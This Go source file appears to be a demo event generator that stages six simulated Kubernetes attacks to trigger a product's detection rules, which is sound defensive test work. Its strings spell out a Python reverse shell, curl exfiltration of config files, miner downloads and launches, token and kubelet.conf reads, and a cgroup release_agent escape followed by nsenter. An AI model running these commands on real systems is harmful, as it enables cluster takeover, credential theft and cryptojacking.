package demo

import "strconv"

// Ids of shipped rules, by what they detect.
const (
	ruleNetcatListener    = "a52a9439-d52c-401c-be37-2785235c6547"
	ruleNetworkTool       = "1a289854-5b78-49fe-9440-8a8096b1ab50"
	ruleManagementUtility = "6c6bb7ea-0636-44ca-b541-201478ef6b50"
	ruleToolInstallation  = "527d23e6-8b67-4a8e-a6bd-5169b90ab2a8"
	ruleEntrypointEgress  = "c75d0c86-38d6-4821-98a1-465cff8ff4c8"
	ruleTokenRead         = "3b0c5d4e-6f53-4c55-9f0e-6a1d8d7be0f4"
	ruleDroppedFile       = "8f2a9c1d-7e44-4b06-8a5b-52e3c9d01f67"
	ruleReverseShell      = "c1d6e0a2-3f0b-4b7a-9d3c-0f7f1b8c6e25"
	ruleMiner             = "e7b1f3b8-94c2-4d0e-8b56-1c2f70a9d3ee"
	ruleNsenter           = "5a4ce0b7-0f6a-4d8e-a1c3-7b9d2ef48b10"
	ruleKernelHelper      = "d2f95e61-b8a4-4f35-93d7-4e6a0c1b7f82"
	ruleSessionEgress     = "96d0b1c7-2ab8-4c1f-8f49-e35a7d60c9b3"
	ruleUnverified        = "4d7c8b3f-1e29-4a6d-b0f5-a8c64e9f2d71"
)

// Addresses of the attackers. They are of the range of IPv6 that is reserved for documentation, so that no real
// host stands accused; the reserved ranges of IPv4 would not do, because the rules leave those out.
const (
	attackerShell = "2001:db8:5e11::47"
	attackerFiles = "2001:db8:f11e::9"
	miningPool    = "2001:db8:c01::144"
)

// Story is an attack that the generator stages.
type Story struct {
	Name  string   // a short name, fit for a line of output
	Rules []string // ids of exactly the shipped rules that it triggers
}

// plot is a story and how it goes.
type plot struct {
	Story
	play func(s *scene, n *node)
}

// Stories returns the attacks that a generator stages in turn. Together they trigger every shipped rule.
func Stories() []Story {
	plots := stories()
	all := make([]Story, len(plots))
	for i, p := range plots {
		all[i] = p.Story
	}
	return all
}

func stories() []plot {
	return []plot{
		{Story{"web shell to bind shell", []string{ruleToolInstallation, ruleNetcatListener, ruleNetworkTool, ruleTokenRead}}, webShell},
		{Story{"stolen pod identity", []string{ruleTokenRead, ruleManagementUtility, ruleNetworkTool}}, stolenIdentity},
		{Story{"poisoned image mines coins", []string{ruleEntrypointEgress, ruleUnverified, ruleDroppedFile, ruleMiner}}, poisonedImage},
		{Story{"escape from a privileged pod", []string{ruleKernelHelper, ruleNsenter, ruleManagementUtility}}, escape},
		{Story{"reverse shell from the checkout API", []string{ruleReverseShell, ruleSessionEgress}}, reverseShell},
		{Story{"hands-on miner", []string{ruleToolInstallation, ruleNetworkTool, ruleDroppedFile, ruleMiner}}, handsOnMiner},
	}
}

// webShell: the storefront is made to run a shell, which becomes a terminal, installs netcat, listens and takes
// the pod's token.
func webShell(s *scene, n *node) {
	web := n.pods["storefront"]
	www := func(c command) command { return c.in("/var/www/html").by(33, "www-data") }
	sh := s.exec(web.main, www(cmd("/bin/sh", "-c", "id; python3 -c 'import pty; pty.spawn(\"/bin/bash\")'")))
	s.run(sh, www(cmd("/usr/bin/id")), 2, 5)
	py := s.exec(sh, www(cmd("/usr/bin/python3", "-c", "import pty; pty.spawn(\"/bin/bash\")")))
	s.wait(100, 300)
	bash := s.terminal(py, www(cmd("/bin/bash")))
	s.wait(200, 600)
	s.run(bash, www(cmd("/usr/bin/uname", "-a")), 2, 5)
	s.wait(100, 300)
	root := s.exec(bash, cmd("/usr/bin/sudo", "-n", "/bin/bash").in("/var/www/html"))
	apt := s.exec(root, cmd("/usr/bin/apt-get", "install", "-y", "curl", "netcat-openbsd"))
	s.wait(900, 1800)
	dpkg := s.exec(apt, cmd("/usr/bin/dpkg", "--status-fd", "18", "--unpack", "--recursive", "/tmp/apt-dpkg-install-"+s.g.world.letters(6)))
	s.create(dpkg, "/usr/bin/nc.openbsd.dpkg-new")
	s.wait(200, 600)
	s.end(dpkg, 0)
	s.end(apt, 0)
	s.wait(900, 2000)
	listener := s.exec(root, cmd("/usr/bin/nc", "-lvp", strconv.Itoa(4444+s.g.rng.IntN(20))))
	s.wait(1500, 3000)
	s.run(bash, www(cmd("/usr/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")), 2, 6)
	s.wait(1500, 3000)
	s.end(listener, 0)
	s.end(root, 0)
	s.end(bash, 0)
	s.end(py, 0)
	s.end(sh, 0)
}

// stolenIdentity: with stolen cluster credentials somebody opens a shell in a pod, reads its token, asks the API
// server for secrets and scans the pod network.
func stolenIdentity(s *scene, n *node) {
	c := n.pods["node-tuner"]
	sh := s.enter(c, cmd("/bin/sh"))
	s.wait(400, 900)
	s.run(sh, cmd("/usr/bin/cat", "/run/secrets/kubernetes.io/serviceaccount/token"), 2, 6)
	s.wait(800, 1600)
	s.run(sh, cmd("/tmp/.cache/kubectl", "auth", "can-i", "--list"), 150, 400)
	s.wait(700, 1500)
	s.run(sh, cmd("/tmp/.cache/kubectl", "get", "secrets", "-A", "-o", "yaml"), 200, 500)
	s.wait(800, 1600)
	scan := s.exec(sh, cmd("/usr/bin/nmap", "-sT", "-Pn", "-p", "2379,6443,10250", "10.20.0.0/24"))
	for i := range 6 {
		s.wait(40, 200)
		s.connect(scan, "10.20.0."+strconv.Itoa(3+i), 10250)
	}
	s.end(scan, 0)
	s.wait(500, 1500)
	s.end(sh, 0)
}

// poisonedImage: a tampered image loads a miner in its entrypoint, makes it executable and starts it.
func poisonedImage(s *scene, n *node) {
	c := s.pod(n, image{
		app: "report-worker", name: "report-worker", repo: "registry.example.net/reporttools/worker", tag: "latest", namespace: "reporting",
		owner: "Deployment", sensor: endpoint, main: cmd("/entrypoint.sh").script("/bin/sh"),
	})
	file := "/tmp/." + s.g.world.letters(8)
	s.wait(60, 200)
	curl := s.exec(c.main, cmd("/usr/bin/curl", "-s", "-o", file, "http://["+attackerFiles+"]/b/amd64"))
	s.wait(10, 40)
	conn := s.connect(curl, attackerFiles, 80)
	s.wait(30, 100)
	s.create(curl, file)
	s.wait(700, 1800)
	s.hangUp(curl, conn)
	s.end(curl, 0)
	s.wait(900, 1600)
	s.run(c.main, cmd("/bin/chmod", "755", file), 1, 3)
	s.wait(900, 1600)
	miner := s.exec(c.main, cmd(file, "--url=stratum+tcp://["+miningPool+"]:3333", "--user=wallet.report-worker", "--threads=2", "--background"))
	s.wait(100, 300)
	s.connect(miner, miningPool, 3333)
	s.wait(1000, 3000)
	s.replace(c.main, cmd("/usr/local/bin/python3.12", "/app/worker.py").in("/app"))
}

// escape: somebody in a privileged pod sets a cgroup's release agent, then enters the node's namespaces.
func escape(s *scene, n *node) {
	c := n.pods["node-tuner"]
	sh := s.enter(c, cmd("/bin/bash"))
	s.wait(300, 800)
	s.run(sh, cmd("/usr/bin/mkdir", "-p", "/mnt/cgrp"), 1, 3)
	s.run(sh, cmd("/usr/bin/mount", "-t", "cgroup", "-o", "rdma", "cgroup", "/mnt/cgrp"), 4, 10)
	s.wait(700, 1500)
	s.write(sh, "/mnt/cgrp/x/notify_on_release")
	s.wait(200, 500)
	s.write(sh, "/mnt/cgrp/release_agent")
	s.wait(1500, 3000)
	enter := s.exec(sh, cmd("/usr/bin/nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "/bin/bash"))
	s.wait(40, 90)
	out := s.exec(enter, cmd("/bin/bash"))
	s.wait(900, 2000)
	s.run(out, cmd("/usr/bin/crictl", "ps", "-o", "json"), 60, 200)
	s.wait(700, 1600)
	s.run(out, cmd("/usr/bin/cat", "/etc/kubernetes/kubelet.conf"), 2, 6)
	s.wait(400, 900)
	s.end(out, 0)
	s.end(enter, 0)
	s.end(sh, 0)
}

// reverseShell: the checkout API is made to connect out and hand over a shell, which turns into a terminal and
// sends data away.
func reverseShell(s *scene, n *node) {
	api := n.pods["checkout-api"]
	app := func(c command) command { return c.in("/app").by(10001, "app") }
	py := s.exec(api.main, app(cmd("/usr/local/bin/python3.12", "-c", "import socket,subprocess,os;s=socket.create_connection((\""+attackerShell+"\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])")))
	s.wait(30, 80)
	conn := s.connect(py, attackerShell, 443)
	s.wait(60, 200)
	sh := s.exec(py, app(cmd("/bin/sh", "-i")))
	for _, look := range []command{cmd("/usr/bin/id"), cmd("/usr/bin/hostname"), cmd("/usr/bin/env")} {
		s.wait(500, 1200)
		s.run(sh, app(look), 2, 6)
	}
	s.wait(500, 1000)
	script := s.exec(sh, app(cmd("/usr/bin/script", "-qc", "/bin/bash", "/dev/null")))
	bash := s.terminal(script, app(cmd("/bin/bash")))
	s.wait(800, 1800)
	s.run(bash, app(cmd("/usr/bin/tar", "czf", "/app/var/.s.tgz", "/app/config")), 60, 200)
	s.wait(600, 1200)
	curl := s.exec(bash, app(cmd("/usr/bin/curl", "-s", "-T", "/app/var/.s.tgz", "http://["+attackerFiles+"]/u/")))
	s.wait(10, 30)
	up := s.connect(curl, attackerFiles, 80)
	s.wait(200, 700)
	s.hangUp(curl, up)
	s.end(curl, 0)
	s.wait(600, 1500)
	s.end(bash, 0)
	s.end(script, 0)
	s.end(sh, 0)
	s.hangUp(py, conn)
	s.end(py, 0)
}

// handsOnMiner: through a stolen terminal somebody installs a relay, brings a miner over it and starts it.
func handsOnMiner(s *scene, n *node) {
	db := n.pods["postgres"]
	sh := s.enter(db, cmd("/bin/bash"))
	s.wait(400, 900)
	apt := s.exec(sh, cmd("/usr/bin/apt", "install", "-y", "socat"))
	s.wait(800, 1600)
	s.end(apt, 0)
	s.wait(700, 1500)
	file := "/dev/shm/." + s.g.world.letters(6)
	relay := s.exec(sh, cmd("/usr/bin/socat", "-u", "TCP6:["+attackerFiles+"]:8081", "OPEN:"+file+",creat,perm=0755"))
	s.wait(40, 90)
	conn := s.connect(relay, attackerFiles, 8081)
	s.wait(20, 60)
	s.create(relay, file)
	s.wait(500, 1200)
	s.hangUp(relay, conn)
	s.end(relay, 0)
	s.wait(1000, 2000)
	miner := s.exec(sh, cmd(file, "-o", "stratum+ssl://["+miningPool+"]:443", "-u", "wallet.pg", "-k", "--donate-level=1"))
	s.wait(100, 300)
	s.connect(miner, miningPool, 443)
	s.wait(1500, 3000)
	s.remove(sh, file)
	s.end(sh, 0)
}
